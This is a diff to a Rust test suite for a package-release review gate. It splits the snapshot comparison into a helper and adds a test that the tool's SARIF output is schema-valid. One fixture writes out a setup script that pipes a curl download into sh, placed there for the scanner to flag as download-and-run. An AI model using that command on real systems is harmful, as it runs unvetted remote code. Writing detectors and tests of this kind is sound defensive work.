@@ -126,6 +126,20 @@ const STRANGER: &str = "github:other#3001";
 
 /// Makes the pull request, runs the gate on it and compares what it prints.
 fn told(name: &str, format: &str, exit: i32, actor: &str, base: &Files, change: &str) {
+    let (code, printed) = review(format, actor, base, change);
+    let printed = redact(&printed);
+    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/suite/review/story").join(name);
+    if std::env::var_os("SHELFMARK_BLESS").is_some() {
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(&file, &printed).unwrap();
+    }
+    let frozen = std::fs::read_to_string(&file).unwrap_or_default();
+    assert_eq!(frozen, printed, "{name} is not as it was");
+    assert_eq!(code, Some(exit), "{name}\n{printed}");
+}
+
+/// Runs the gate on the pull request and returns its exit code and what it prints.
+fn review(format: &str, actor: &str, base: &Files, change: &str) -> (Option<i32>, String) {
     let mut base = base.clone();
     fill_in_digests(&mut base);
     let mut head = over(&base, change);
@@ -140,17 +154,8 @@ fn told(name: &str, format: &str, exit: i32, actor: &str, base: &Files, change: 
         .arg(folder.path().join("state"))
         .output()
         .unwrap();
-    let printed = String::from_utf8(output.stdout).unwrap();
-    assert_eq!(String::from_utf8_lossy(&output.stderr), "", "{name}");
-    let printed = redact(&printed);
-    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/suite/review/story").join(name);
-    if std::env::var_os("SHELFMARK_BLESS").is_some() {
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(&file, &printed).unwrap();
-    }
-    let frozen = std::fs::read_to_string(&file).unwrap_or_default();
-    assert_eq!(frozen, printed, "{name} is not as it was");
-    assert_eq!(output.status.code(), Some(exit), "{name}\n{printed}");
+    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
+    (output.status.code(), String::from_utf8(output.stdout).unwrap())
 }
 
 /// Digests of code and of policies change with every edit of a check.
@@ -233,16 +238,45 @@ fn an_edited_release_is_refused_with_both_versions() {
     told("edited-release.github", "github", 1, OWNER, &before(), &change);
 }
 
-#[test]
-fn a_wider_permission_is_asked_about() {
+/// A release that may do more than the one before, and runs what it downloads.
+fn wider_permission() -> String {
     let edition = Edition {
         version: "1.1.0",
         permissions: "\"system.object.create\", \"system.object.delete\", \"system.object.read\"",
         more: "-- sources/com.example.billing/1.1.0/setup.sh --\ncurl -s https://get.example.net/tool | sh\n",
         ..Edition::default()
     };
-    told("wider-permission.txt", "text", 3, OWNER, &before(), &edition.text());
-    told("wider-permission.md", "markdown", 3, OWNER, &before(), &edition.text());
+    edition.text()
+}
+
+#[test]
+fn a_wider_permission_is_asked_about() {
+    told("wider-permission.txt", "text", 3, OWNER, &before(), &wider_permission());
+    told("wider-permission.md", "markdown", 3, OWNER, &before(), &wider_permission());
+}
+
+#[test]
+fn one_sarif_log_holds_what_the_rules_say_and_what_the_scan_found() {
+    let (exit, text) = review("sarif", OWNER, &before(), &wider_permission());
+    assert_eq!(exit, Some(3), "{text}");
+    let log: serde_json::Value = serde_json::from_str(&text).unwrap();
+    let validator = jsonschema::validator_for(&shelfmark_support::sarif_schema()).unwrap();
+    let errors: Vec<String> = validator.iter_errors(&log).map(|error| error.to_string()).collect();
+    assert!(errors.is_empty(), "{errors:#?}");
+    let run = &log["runs"][0];
+    let (results, rules) =
+        (run["results"].as_array().unwrap(), run["tool"]["driver"]["rules"].as_array().unwrap());
+    for (rule, is_finding) in [("permission-added", false), ("download-and-run", true)] {
+        let result = results.iter().find(|one| one["ruleId"] == rule).unwrap();
+        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
+        assert_eq!(rules[index]["id"], rule);
+        assert_eq!(result["properties"]["severity"].is_string(), is_finding, "{result}");
+        let place = &result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
+        assert_eq!(place, "packages/com/example/com.example.billing/1.1.0.toml");
+    }
+    let mut broken = log.clone();
+    broken["runs"][0]["results"][0]["level"] = "fatal".into();
+    assert!(!validator.is_valid(&broken), "the schema refuses nothing");
 }
 
 #[test]
